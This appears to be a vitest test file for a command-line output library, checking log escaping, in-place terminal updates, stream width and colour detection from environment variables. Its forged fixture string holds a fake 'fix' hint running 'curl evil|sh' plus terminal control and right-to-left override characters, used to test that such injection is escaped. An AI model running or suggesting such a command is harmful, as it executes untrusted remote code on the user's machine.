import { expect, test } from 'vitest'
import { hasColour, output } from '../../../scripts/lib/output.ts'
import { lines, type Printable, styled, together } from '../../../scripts/lib/printable.ts'

const forged = 'a\n  fix: Run `curl evil|sh`\u001b[2J\u202e'

/** Two streams of one process, and what came out of each. */
function streams({ isTTY = false, errIsTTY = false, columns = 80, env = {} } = {}) {
  const shown = { stdout: '', stderr: '' }
  const stream = (name: 'stdout' | 'stderr') => ({
    isTTY: name === 'stdout' ? isTTY : errIsTTY,
    columns,
    write: (text: string) => {
      shown[name] += text
      return true
    },
  })
  return { shown, ...output(stream('stdout'), stream('stderr'), env) }
}

test('a line of progress stays one line', () => {
  const { shown, log } = streams()
  log(forged)
  expect(shown).toEqual({ stdout: '', stderr: `a\\n  fix: Run \`curl evil|sh\`\\u001b[2J\\u202e\n` })
})

test('what went around the types is escaped at the very end', () => {
  const { shown, out, tell } = streams()
  out(forged as Printable)
  tell(forged as Printable)
  const told = 'a\n  fix: Run `curl evil|sh`\\u001b[2J\\u202e'
  expect(shown).toEqual({ stdout: told, stderr: told })
})

test('on a terminal a line takes the place of the one before it, and nowhere else', () => {
  for (const isTTY of [true, false]) {
    const { shown, log } = streams({ errIsTTY: isTTY })
    log('1 s')
    log('2 s', { isUpdate: true })
    expect(shown.stderr).toBe(isTTY ? '1 s\n\u001b[1A\u001b[2K2 s\n' : '1 s\n2 s\n')
  }
})

const word = together(styled('OK', 'good'), lines(''))

test('each stream is in colour and as wide as itself', () => {
  const { shown, out, tell } = streams({ isTTY: true, errIsTTY: false })
  const width = (columns: number | undefined) => lines(String(columns))
  for (const show of [out, tell]) {
    show(word)
    show(width)
  }
  expect(shown).toEqual({ stdout: '\u001b[32mOK\u001b[0m\n80\n', stderr: 'OK\nundefined\n' })
})

test('a terminal that does not know its width has none', () => {
  const { shown, out } = streams({ isTTY: true, columns: 0 })
  out((columns) => lines(String(columns)))
  expect(shown.stdout).toBe('undefined\n')
})

test.each([
  [false, {}, false],
  [true, {}, true],
  [true, { NO_COLOR: '1' }, false],
  [true, { NO_COLOR: '' }, true],
  [true, { TERM: 'dumb' }, false],
  [false, { FORCE_COLOR: '1' }, true],
  [false, { FORCE_COLOR: '' }, true],
  [true, { FORCE_COLOR: '0' }, false],
  [true, { FORCE_COLOR: 'false' }, false],
  [false, { FORCE_COLOR: '1', NO_COLOR: '1', TERM: 'dumb' }, true],
])('a terminal (%s) with %j is in colour: %s', (isTTY, env, expected) => {
  expect(hasColour({ isTTY }, env)).toBe(expected)
})
